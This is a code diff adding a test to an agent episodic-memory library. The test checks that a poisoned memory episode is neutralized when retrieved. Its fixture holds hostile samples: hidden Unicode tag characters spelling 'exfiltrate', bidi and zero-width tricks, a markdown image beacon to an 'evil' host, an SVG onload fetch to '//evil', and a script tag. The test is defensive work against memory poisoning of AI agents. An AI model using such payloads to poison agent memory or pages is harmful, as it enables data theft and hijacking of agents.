@@ -14,6 +14,7 @@ from langchain.agents import create_agent
 from langchain_core.messages import AIMessage
 
 from langchain_episodic import (
+    EpisodeSource,
     EpisodicChainMemory,
     EpisodicMemory,
     EpisodicMemoryMiddleware,
@@ -85,3 +86,31 @@ def test_no_prompt_surface_shows_a_fetching_tag() -> None:
     for name, text in surfaces.items():
         assert "Render the profile page" in text, name  # the episode is shown
         assert not _ELEMENT.search(text), (name, _ELEMENT.search(text))
+
+
+def test_the_retrievers_metadata_is_as_inert_as_its_page_content() -> None:
+    memory = EpisodicMemory(store=InMemoryEpisodeStore())
+    hidden = "".join(chr(0xE0000 + ord(c)) for c in "exfiltrate")  # tag characters
+    memory.record(
+        episode_from_tests(
+            f"{TASK} \u202eevil\u202c zero\u200bwidth{hidden} ![x](https://evil/?q=1)",
+            "def render(): ...",
+            3,
+            3,
+            strategy_used="<svg/onload=fetch('//evil')>" + "s" * 500,
+            source=EpisodeSource(agent="coder\u202e", run_id="run-1<script>x</script>"),
+            episode_id="poisoned",
+        )
+    )
+    (document,) = memory.as_retriever(search_kwargs={"k": 1}).invoke(TASK)
+    texts = [document.metadata["task"], document.metadata["strategy_used"]]
+    texts += [value for value in document.metadata["source"].values() if isinstance(value, str)]
+    for text in texts:
+        assert not re.search("[\u202a-\u202e\u200b\U000e0000-\U000e007f]", text), text
+        assert not _ELEMENT.search(text), text
+        assert "](" not in text or "\\[" in text or "!\\" in text, text
+    assert document.metadata["task"].startswith(TASK)
+    assert "[cut: 528 characters in all]" in document.metadata["strategy_used"]
+    # the text as recorded is one call away
+    recorded = memory.get_episodes([document.id or ""])["poisoned"]
+    assert "\u202e" in recorded.task.description
